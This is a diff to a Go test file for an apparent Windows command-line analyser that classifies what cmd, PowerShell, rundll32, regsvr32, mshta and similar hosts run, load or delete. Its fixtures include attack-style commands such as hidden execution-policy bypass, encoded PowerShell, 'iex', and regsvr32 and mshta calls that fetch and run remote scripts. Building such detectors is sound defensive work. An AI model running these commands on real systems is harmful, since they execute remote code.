@@ -28,8 +28,8 @@ func TestRead(t *testing.T) {
 		{`\??\C:\x.sys`, `runs C:\x.sys`, ""},
 
 		// A program that is not known only gets the file.
-		{`scan.exe /exclude C:\x.exe`, `runs scan.exe; scan mentions C:\x.exe`, ""},
-		{`scan.exe /exclude:"C:\a b.exe" out=C:\y -v`, `runs scan.exe; scan mentions C:\a b.exe; scan mentions C:\y`, ""},
+		{`scan.exe /exclude C:\x.exe`, `runs scan.exe; scan passes C:\x.exe`, ""},
+		{`scan.exe /exclude:"C:\a b.exe" out=C:\y -v`, `runs scan.exe; scan passes C:\a b.exe; scan passes C:\y`, ""},
 
 		// cmd.exe
 		{`cmd.exe /q /c del /q "C:\x.exe"`, cmd + "deletes " + x, ""},
@@ -53,21 +53,21 @@ func TestRead(t *testing.T) {
 		{`cmd.exe`, "runs cmd.exe", ""},
 
 		// PowerShell
-		{`powershell -ep bypass -w hidden -File C:\x.ps1 C:\y`, `runs powershell; powershell runs C:\x.ps1; powershell mentions C:\y`, ""},
+		{`powershell -ep bypass -w hidden -File C:\x.ps1 C:\y`, `runs powershell; powershell runs C:\x.ps1; powershell passes C:\y`, ""},
 		{`powershell -NoP -Command "& 'C:\a b\x.exe' -q"`, `runs powershell; powershell runs C:\a b\x.exe`, ""},
 		{`powershell C:\x.exe`, `runs powershell; powershell runs C:\x.exe`, ""},
-		{`powershell -enc ` + encoded(`Start-Process C:\x.exe -ArgumentList C:\y`), `runs powershell; powershell opens C:\x.exe; powershell mentions C:\y`, ""},
+		{`powershell -enc ` + encoded(`Start-Process C:\x.exe -ArgumentList C:\y`), `runs powershell; powershell opens C:\x.exe; powershell passes C:\y`, ""},
 		{`powershell -e ` + encoded(`rm C:\x.exe; C:\y.exe`), `runs powershell; powershell deletes C:\x.exe; powershell runs C:\y.exe`, ""},
 		{`powershell -ec !!`, `runs powershell`, `!!`},
-		{`powershell -c "iex (gc C:\x.txt)"`, `runs powershell; powershell mentions (gc; powershell mentions C:\x.txt)`, `iex (gc C:\x.txt)`},
+		{`powershell -c "iex (gc C:\x.txt)"`, `runs powershell; powershell passes (gc; powershell passes C:\x.txt)`, `iex (gc C:\x.txt)`},
 		{`powershell "cp C:\a -Destination C:\b"`, `runs powershell; powershell takes C:\a; powershell writes C:\b`, ""},
 		{`pwsh C:\x.ps1`, `runs pwsh; pwsh runs C:\x.ps1`, ""},
 
 		// Hosts
-		{`rundll32.exe C:\x.dll,Go C:\y`, `runs rundll32.exe; rundll32 loads C:\x.dll; rundll32 mentions C:\y`, ""},
+		{`rundll32.exe C:\x.dll,Go C:\y`, `runs rundll32.exe; rundll32 loads C:\x.dll; rundll32 passes C:\y`, ""},
 		{`rundll32 "C:\a b\x.dll",#1`, `runs rundll32; rundll32 loads C:\a b\x.dll`, ""},
 		{`regsvr32 /s /i:http://h/y scrobj.dll`, `runs regsvr32; regsvr32 runs http://h/y; regsvr32 loads scrobj.dll`, ""},
-		{`wscript.exe //B "C:\a b.vbs" C:\y`, `runs wscript.exe; wscript runs C:\a b.vbs; wscript mentions C:\y`, ""},
+		{`wscript.exe //B "C:\a b.vbs" C:\y`, `runs wscript.exe; wscript runs C:\a b.vbs; wscript passes C:\y`, ""},
 		{`mshta http://198.51.100.1/a.hta`, `runs mshta; mshta runs http://198.51.100.1/a.hta`, ""},
 		{`mshta vbscript:Close(Execute("x"))`, `runs mshta`, `vbscript:Close(Execute("x"))`},
 		{`msiexec /i C:\x.msi /qn`, `runs msiexec; msiexec runs C:\x.msi`, ""},
@@ -102,7 +102,7 @@ func TestRead(t *testing.T) {
 func TestHosts(t *testing.T) {
 	for name := range hosts {
 		used := false
-		for _, form := range []string{`%s C:\x.exe`, `%s /c C:\x.exe`, `%s -jar C:\x.exe`, `%s /i C:\x.exe`, `%s -a C:\x.exe`, `%s --headless C:\x.exe`, `%s process call create C:\x.exe`} {
+		for _, form := range []string{`%s C:\x.exe`, `%s /c C:\x.exe`, `%s -jar C:\x.exe`, `%s /i C:\x.exe`, `%s -a C:\x.exe`, `%s --headless C:\x.exe`, `%s /a {REGSVR C:\x.exe}`, `%s -loaddll C:\x.exe`, `%s /setnotifycmdline j C:\x.exe`, `%s process call create C:\x.exe`} {
 			uses, _ := Read(fmt.Sprintf(form, name))
 			used = used || slices.ContainsFunc(uses, func(u Use) bool { return u.Host != "" && u.Verb.Starts() && u.Paths[0] == `C:\x.exe` })
 		}
